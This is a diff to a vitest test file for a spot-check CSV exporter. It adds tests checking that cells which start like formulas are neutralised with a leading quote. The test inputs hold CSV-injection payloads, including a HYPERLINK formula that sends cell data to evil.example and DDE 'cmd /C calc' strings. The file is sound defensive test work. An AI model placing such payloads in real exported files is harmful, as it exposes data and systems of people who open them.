@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { estimatesFrom, type SpotCheckDetail } from '../../../lib/queries/spotChecks.ts';
-import { csvCell, spotCheckItemsCsv, spotCheckSummaryCsv } from '../../../lib/stats/spotCheckCsv.ts';
+import { csvCell } from '../../../lib/csv.ts';
+import { spotCheckItemsCsv, spotCheckSummaryCsv } from '../../../lib/stats/spotCheckCsv.ts';
 
 const detail: SpotCheckDetail = {
   spotCheck: { id: 's1', name: 'Week 1, "pilot"', population: 'included', size: 2, seed: 'x', populationSize: 1000, createdAt: '', createdBy: null, labelled: 2 },
@@ -16,6 +17,32 @@ describe('spot-check CSV', () => {
     expect(csvCell('a,b')).toBe('"a,b"');
     expect(csvCell('say "hi"')).toBe('"say ""hi"""');
     expect(csvCell(null)).toBe('');
+  });
+
+  it('neutralises text a spreadsheet would run as a formula (OWASP: leading quote, cell quoted), not numbers', () => {
+    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
+    expect(csvCell("+1+cmd|' /C calc'!A0")).toBe('"\'+1+cmd|\' /C calc\'!A0"');
+    expect(csvCell('@SUM(1)')).toBe('"\'@SUM(1)"');
+    expect(csvCell('-2+3')).toBe('"\'-2+3"');
+    expect(csvCell('\tx')).toBe('"\'\tx"');
+    expect(csvCell('\rx')).toBe('"\'\rx"');
+    expect(csvCell('a=b')).toBe('a=b');
+    expect(csvCell(-1)).toBe('-1');
+  });
+
+  it('neutralises spot-check and reviewer names starting with =', () => {
+    const evil: SpotCheckDetail = {
+      ...detail,
+      spotCheck: { ...detail.spotCheck, name: '=cmd|\' /C calc\'!A0' },
+      items: detail.items.map((i) => ({ ...i, labelledBy: '=HYPERLINK("http://evil.example","x")' })),
+    };
+    const summary = spotCheckSummaryCsv(evil).split('\r\n')[1];
+    expect(summary.startsWith('"\'=cmd|\' /C calc\'!A0",included,')).toBe(true);
+    const item = spotCheckItemsCsv(evil).split('\r\n')[1];
+    expect(item).toContain(',"\'=HYPERLINK(""http://evil.example"",""x"")",');
+    for (const line of [...spotCheckSummaryCsv(evil).split('\r\n'), ...spotCheckItemsCsv(evil).split('\r\n')]) {
+      for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@]/);
+    }
   });
 
   it('writes one row per label with counts, intervals and population estimates', () => {
